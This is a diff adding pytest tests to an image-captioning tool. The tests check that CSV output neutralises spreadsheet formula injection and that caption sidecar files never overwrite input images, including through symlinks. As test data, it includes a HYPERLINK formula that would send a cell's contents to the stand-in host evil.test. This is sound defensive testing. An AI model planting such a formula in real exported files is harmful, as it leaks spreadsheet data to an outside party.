@@ -5,6 +5,7 @@ from __future__ import annotations
 
 import json
 import os
+import re
 import struct
 import uuid
 import zlib
@@ -172,6 +173,42 @@ def test_csv_keeps_multiline_captions_and_repairs_a_cut_quoted_field(tmp_path: P
         CsvWriter(other)
 
 
+def test_csv_neutralises_formulas_and_resumes_on_the_real_names(tmp_path: Path) -> None:
+    formula = '=HYPERLINK("http://evil.test/?leak="&A1,"click")'
+    names = [f"{formula}.png", "+1.png", "-2.png", "@SUM(A1).png", "\tt.png", "\rr.png", "'=quoted.png", "plain.png"]
+    records = [_record(name, f"{index:02x}", formula if index == 0 else f"caption {index}")
+               for index, name in enumerate(names)]
+    failed = BatchRecord("@bad.png", "ee", error={"code": "invalidInputsImage", "message": "-1 is no size"})
+    csv_out, jsonl_out = tmp_path / "captions.csv", tmp_path / "captions.jsonl"
+    for writer in (CsvWriter(csv_out), JsonlWriter(jsonl_out)):
+        for record in [*records, failed]:
+            writer.write(record)
+        writer.close()
+
+    import csv
+
+    with open(csv_out, newline="", encoding="utf-8") as file:
+        rows = list(csv.DictReader(file))
+    assert [row["image"] for row in rows] == [*(f"'{name}" for name in names[:-1]), "plain.png", "'@bad.png"]
+    assert rows[0]["text"] == f"'{formula}" and rows[1]["text"] == "caption 1"
+    assert rows[-1]["errorMessage"] == "'-1 is no size" and rows[-1]["errorCode"] == "invalidInputsImage"
+    assert rows[0]["generated_tokens"] == "3" and rows[0]["sha256"] == "00"
+    assert all(not cell or cell[0] not in "=+-@\t\r" for row in rows for cell in row.values())
+    lines = [json.loads(line) for line in jsonl_out.read_text().splitlines()]  # JSONL keeps the exact text
+    assert [line["image"] for line in lines] == [*names, "@bad.png"] and lines[0]["response"]["text"] == formula
+    assert lines[-1]["error"]["message"] == "-1 is no size"
+
+    written = csv_out.read_bytes()
+    resumed = CsvWriter(csv_out)  # the stored cells are matched against the real names
+    for record in [*records, failed]:
+        digest = record.sha256 or ""
+        assert resumed.done(record.image, lambda: digest)  # noqa: B023 - called before the loop goes on
+        resumed.write(record)
+    assert not resumed.done("=quoted.png", lambda: "06") and not resumed.done("'+1.png", lambda: "01")
+    resumed.close()
+    assert csv_out.read_bytes() == written
+
+
 def test_sidecars_are_written_atomically_beside_each_image(tmp_path: Path) -> None:
     image = tmp_path / "cat.jpg"
     image.write_bytes(b"jpeg")
@@ -188,6 +225,30 @@ def test_sidecars_are_written_atomically_beside_each_image(tmp_path: Path) -> No
     with pytest.raises(OutputFileError, match="would share the sidecar"):
         open_sinks([str(image), str(tmp_path / "cat.png")], sidecar=True)
     assert sidecar_path("a/b.c.jpeg") == "a/b.c.txt"
+
+
+def test_a_sidecar_that_is_an_input_image_is_refused_never_counted_done(tmp_path: Path) -> None:
+    scan = tmp_path / "scan.txt"  # an image with a .txt name: it is its own sidecar
+    scan.write_bytes(b"png")
+    sidecars = SidecarWriter()
+    assert not sidecars.done(str(scan), lambda: "")
+    with pytest.raises(OutputFileError, match="over that image itself"):
+        sidecars.write(_record(str(scan), "aa", "a scan"))
+    with pytest.raises(OutputFileError, match="over that image itself"):
+        open_sinks([str(scan)], sidecar=True)
+    assert scan.read_bytes() == b"png"
+
+    photo, alias = tmp_path / "cat.jpg", tmp_path / "cat.txt"
+    photo.write_bytes(b"jpeg")
+    alias.symlink_to(scan)  # cat.jpg's sidecar is another name of the input image scan.txt
+    with pytest.raises(OutputFileError, match=re.escape(f"caption of {photo} over the input image {scan} (its")):
+        open_sinks([str(photo), str(scan)], sidecar=True)
+    alias.unlink()
+    alias.symlink_to(photo)  # cat.jpg's sidecar is a link to cat.jpg itself
+    assert not sidecars.done(str(photo), lambda: "")
+    with pytest.raises(OutputFileError, match="over that image itself"):
+        open_sinks([str(photo)], sidecar=True)
+    assert photo.read_bytes() == b"jpeg" and scan.read_bytes() == b"png"
 
 
 def test_run_batch_writes_counts_and_stops_cleanly_on_interrupt(tmp_path: Path) -> None:
